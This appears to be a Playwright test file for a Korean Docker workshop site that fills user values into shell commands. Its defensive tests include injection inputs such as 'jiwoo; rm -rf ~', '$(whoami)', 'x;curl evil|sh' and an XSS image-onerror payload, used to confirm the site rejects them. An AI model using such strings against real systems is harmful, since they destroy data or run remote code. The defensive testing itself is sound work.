import {expect, hydrated, test} from './support/site';

const KEY = 'docker-workshop';
const copied = 'window.__copied';

test('a value is entered once and stands in every command, output, file and sentence', async ({
  page,
}) => {
  await page.goto('/my/');
  await hydrated(page);
  await page.getByLabel('Docker ID').fill('jiwoo7');
  await page.keyboard.press('Enter');
  await expect(page.getByText('모든 페이지의 명령에 들어갑니다.').first()).toBeVisible();
  await page.getByLabel('AWS 리전').fill('us-east-1');
  await page.getByLabel('AWS 리전').blur();

  await page.goto('/labs/share/');
  await expect(page.getByText('DOCKER_ID=jiwoo7').first()).toBeVisible();
  await expect(page.getByText('docker.io/jiwoo7/hello').first()).toBeVisible();
  await expect(page.locator('main')).not.toContainText('내_DOCKER_ID');

  await page.goto('/labs/ecs/');
  await expect(page.getByText('export AWS_DEFAULT_REGION=us-east-1').first()).toBeVisible();
  await expect(page.getByText('"awslogs-region": "us-east-1"').first()).toBeVisible();
  await expect(page.getByText('"image": "docker.io/jiwoo7/hello:1.0.0"').first()).toBeVisible();
});

test('a page that is reached by a link, and another shell, show the values too', async ({page}) => {
  await page.addInitScript((key) => {
    localStorage.setItem(key, JSON.stringify({version: 1, values: {dockerId: 'jiwoo7'}}));
  }, KEY);
  await page.goto('/labs/run/');
  await hydrated(page);
  await page.getByRole('link', {name: '실습 4. 이미지 공유'}).first().click();
  await expect(page.getByText('DOCKER_ID=jiwoo7').first()).toBeVisible();
  await page.getByLabel('명령을 보여 줄 셸').first().selectOption('powershell');
  await expect(page.getByText("$env:DOCKER_ID = 'jiwoo7'").first()).toBeVisible();
  await page.getByLabel('명령을 보여 줄 셸').first().selectOption('bash');
  await expect(page.getByText('DOCKER_ID=jiwoo7').first()).toBeVisible();
});

test('another window of the site shows a new value at once', async ({page, context}) => {
  await page.goto('/labs/share/');
  await hydrated(page);
  await expect(page.getByText('DOCKER_ID=내_DOCKER_ID').first()).toBeVisible();
  const second = await context.newPage();
  await second.goto('/my/');
  await hydrated(second);
  await second.getByLabel('Docker ID').fill('jiwoo7');
  await second.getByLabel('Docker ID').blur();
  await expect(page.getByText('DOCKER_ID=jiwoo7').first()).toBeVisible();
  await second.getByRole('button', {name: '내 값 지우기'}).click();
  await expect(page.getByText('DOCKER_ID=내_DOCKER_ID').first()).toBeVisible();
});

test('copying a command without its value says so, aloud and in sight', async ({page}) => {
  await page.addInitScript(() => {
    Object.defineProperty(navigator, 'clipboard', {
      value: {
        writeText: (text: string) => {
          Object.assign(window, {__copied: text});
          return Promise.resolve();
        },
      },
    });
  });
  await page.goto('/labs/share/');
  await page.getByRole('button', {name: '복사: 터미널'}).first().click();
  const warning = page.getByRole('status').filter({hasText: '아직 내_DOCKER_ID가 들어 있습니다'});
  await expect(warning).toBeInViewport();
  expect(await page.evaluate(copied)).toBe('DOCKER_ID=내_DOCKER_ID');
});

const refused = [
  ['Docker ID', 'jiwoo; rm -rf ~', '‘;’'],
  ['Docker ID', 'ab', '4자에서 30자'],
  ['Docker ID', 'Jiwoo', '대문자'],
  ['AWS 계정 ID', '1111-2222-3333', '숫자만'],
  ['AWS 리전', 'ap-northeast2', 'ap-northeast-2'],
  ['AWS 리소스 이름', '$(whoami)', '‘$’'],
] as const;

test('what breaks a rule is refused with the reason, and not kept', async ({page}) => {
  await page.goto('/my/');
  await hydrated(page);
  for (const [name, value, reason] of refused) {
    const field = page.getByLabel(name, {exact: true});
    await field.fill(value);
    await field.blur();
    await expect(page.getByRole('status').filter({hasText: reason})).toBeVisible();
    await expect(field).toHaveAttribute('aria-invalid', 'true');
  }
  await page.goto('/labs/share/');
  await expect(page.getByText('DOCKER_ID=내_DOCKER_ID').first()).toBeVisible();
});

test('neither a link nor what somebody wrote into the storage puts a command in', async ({
  page,
}) => {
  await page.addInitScript((key) => {
    localStorage.setItem(
      key,
      JSON.stringify({
        version: 1,
        values: {dockerId: 'x;curl evil|sh', awsRegion: '<img src=x onerror=alert(1)>'},
      }),
    );
  }, KEY);
  await page.goto('/labs/share/?dockerId=jiwoo7#dockerId=jiwoo7');
  await hydrated(page);
  await expect(page.getByText('DOCKER_ID=내_DOCKER_ID').first()).toBeVisible();
  await page.goto('/labs/ecs/');
  await expect(page.getByText('export AWS_DEFAULT_REGION=ap-northeast-2').first()).toBeVisible();
  await expect(page.locator('main img[src="x"]')).toHaveCount(0);
});

test('where nothing can be stored, the values hold until the page is left', async ({page}) => {
  await page.addInitScript((key) => {
    // The site's key alone: the theme complains in the console about a storage that it has not.
    const refuse = (asked: string) => {
      if (asked === key) {
        throw new DOMException('blocked', 'SecurityError');
      }
    };
    const {getItem, setItem} = Storage.prototype;
    Storage.prototype.getItem = function (asked) {
      refuse(asked);
      return getItem.call(this, asked);
    };
    Storage.prototype.setItem = function (asked, text) {
      refuse(asked);
      setItem.call(this, asked, text);
    };
  }, KEY);
  await page.goto('/my/');
  await hydrated(page);
  await page.getByLabel('Docker ID').fill('jiwoo7');
  await page.getByLabel('Docker ID').blur();
  await expect(page.getByText('이 브라우저에는 저장할 수 없습니다.').first()).toBeVisible();
  await page.getByRole('link', {name: '교재'}).first().click();
  await page.getByRole('link', {name: '실습 4. 이미지 공유'}).first().click();
  await expect(page.getByText('DOCKER_ID=jiwoo7').first()).toBeVisible();
});

test('commands name the address at which the page was opened, and are copied so', async ({
  page,
  context,
  baseURL,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto('/labs/first-image/');
  await hydrated(page);
  const block = page.locator('[data-snippet]').filter({hasText: 'hello.tar.gz'}).first();
  await block.getByRole('button', {name: /^복사/}).click();
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .toContain(`curl -fsSLO ${baseURL}/labs/hello.tar.gz`);
});
